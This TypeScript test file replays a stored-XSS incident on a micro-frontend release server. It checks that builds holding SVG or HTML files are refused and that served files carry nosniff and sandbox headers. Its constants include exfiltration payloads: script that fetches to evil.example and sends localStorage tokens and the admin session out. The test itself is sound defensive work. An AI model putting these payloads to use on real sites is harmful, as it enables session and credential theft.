import { cpSync, readdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import type { DomainError } from '../src/domain/errors';
import type { ReleaseService } from '../src/modules/releases/service';
import { createServices } from '../src/services';
import { startTestServer, type TestServer } from './helpers';
import { copyFixture, uploadOf } from './support/release-fixture';
import { webRoot } from './support/web-root';

/**
 * Issue 25's attack, replayed: a team's deploy token published mf-bank's build with `evil.svg`, `evil.html` and
 * `steal.js` beside it, and the SVG's script ran on the shop's origin. Now such a build is refused before anything
 * is stored, by the admin API and from a local folder alike, and what is served under /remotes/ is never a page.
 */
let server: TestServer;
let releases: ReleaseService;
let team: string;
let root: string;

beforeAll(async () => {
  root = webRoot();
  // mf-bank's local build, as `npm start` finds it before publishing it.
  cpSync(path.join(copyFixture(), '..'), path.join(root, 'mf-bank'), { recursive: true });
  server = await startTestServer({ webRoot: root });
  releases = createServices({ db: server.db, config: server.config }).releases;
  ({ token: team } = await releases.access.createToken('cli:test', 'team-bank', ['mf-bank']));
});
afterAll(() => server.close());

const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.example/?"+localStorage["snapmall:token"])</script></svg>';
const HTML = '<!doctype html><script src="steal.js"></script>';
const STEAL = 'fetch("//evil.example/?"+localStorage["snapmall:admin-session"])';
const INERT = { 'x-content-type-options': 'nosniff', 'content-security-policy': "default-src 'none'; sandbox" };
const ALLOWED_TYPES = ['text/javascript; charset=utf-8', 'text/css; charset=utf-8', 'application/json; charset=utf-8', 'application/octet-stream'];

/** What the release store holds: nothing of a refused build may be among it. */
const stored = async () => {
  const [row] = await server.db.query<{ releases: string; files: string; blobs: string }>(
    'SELECT (SELECT count(*) FROM releases)::text AS releases, (SELECT count(*) FROM release_files)::text AS files, (SELECT count(*) FROM release_blobs)::text AS blobs',
  );
  return row;
};
const publish = (files: Array<{ path: string; content_base64: string }>, lang = 'en-us') =>
  server.post<{ version: string }>('/api/admin/release/publish', { remote: 'mf-bank', package_version: '0.1.0', files }, { token: team, lang });
const base64 = (text: string) => Buffer.from(text).toString('base64');
const get = (url: string, headers: Record<string, string> = {}) => server.app.inject({ method: 'GET', url, headers });

describe('the attack’s build', () => {
  it('is refused through the admin API with the deploy token, naming the first file that is not code, with nothing stored', async () => {
    const before = await stored();
    const files = [...uploadOf(copyFixture()), { path: 'evil.svg', content_base64: base64(SVG) }, { path: 'evil.html', content_base64: base64(HTML) }, { path: 'steal.js', content_base64: base64(STEAL) }];
    const res = await publish(files);
    expect(res.body).toMatchObject({
      code: 0,
      msg: 'A release holds only .js, .mjs, .css, .json and .map files and their .br and .gz copies: evil.html is not one of them',
    });
    expect((await publish(files, 'zh-tw')).body).toMatchObject({ code: 0, msg: expect.stringContaining('evil.html') });
    // The SVG alone (with the script beside it) is refused by its own name.
    const svgOnly = await publish([...uploadOf(copyFixture()), { path: 'evil.svg', content_base64: base64(SVG) }, { path: 'steal.js', content_base64: base64(STEAL) }]);
    expect(svgOnly.body).toMatchObject({ code: 0, msg: expect.stringContaining('evil.svg') });
    expect(await stored()).toEqual(before);
  });

  it.each([
    ['evil.svg', SVG],
    ['evil.html', HTML],
    ['notes.txt', 'hello'],
    ['evil.unknown', 'x'],
    ['LICENSE', 'no extension'],
    ['EVIL.HTML', HTML],
    ['evil.html.gz', gzipSync(HTML)],
  ])('refuses %s in a local dist folder (npm run ops, start-up) with nothing stored', async (file, content) => {
    const before = await stored();
    const dir = copyFixture();
    writeFileSync(path.join(dir, file), content);
    await expect(releases.publish('mf-bank', dir, { by: 'cli:test' })).rejects.toMatchObject({ key: 'release.fileType', vars: { file } } as Partial<DomainError>);
    expect(await stored()).toEqual(before);
  });
});

describe('a published build’s files', () => {
  it('are each served under /remotes/mf-bank/v/<version>/ with an allowed type, nosniff and the sandbox policy', async () => {
    const res = await publish(uploadOf(copyFixture()));
    expect(res.body.code).toBe(1);
    const { version } = res.body.data;
    const files = readdirSync(path.join(root, 'mf-bank', 'dist'));
    expect(files.length).toBeGreaterThanOrEqual(3);
    for (const file of files) {
      for (const encoding of ['br', 'identity']) {
        const answer = await get(`/remotes/mf-bank/v/${encodeURIComponent(version)}/${file}`, { 'accept-encoding': encoding });
        expect(answer.statusCode).toBe(200);
        expect(answer.headers).toMatchObject(INERT);
        expect(ALLOWED_TYPES).toContain(answer.headers['content-type']);
      }
    }
  });

  it('are each served from the local build under /remotes/mf-bank/ the same way', async () => {
    for (const file of readdirSync(path.join(root, 'mf-bank', 'dist'))) {
      const answer = await get(`/remotes/mf-bank/${file}`);
      expect(answer.statusCode).toBe(200);
      expect(answer.headers).toMatchObject(INERT);
      expect(ALLOWED_TYPES).toContain(answer.headers['content-type']);
    }
    // The attack's files lying in the folder are not served from it.
    for (const [file, content] of [['evil.svg', SVG], ['evil.html', HTML]] as const) {
      writeFileSync(path.join(root, 'mf-bank', 'dist', file), content);
      expect((await get(`/remotes/mf-bank/${file}`)).statusCode).toBe(404);
    }
  });
});
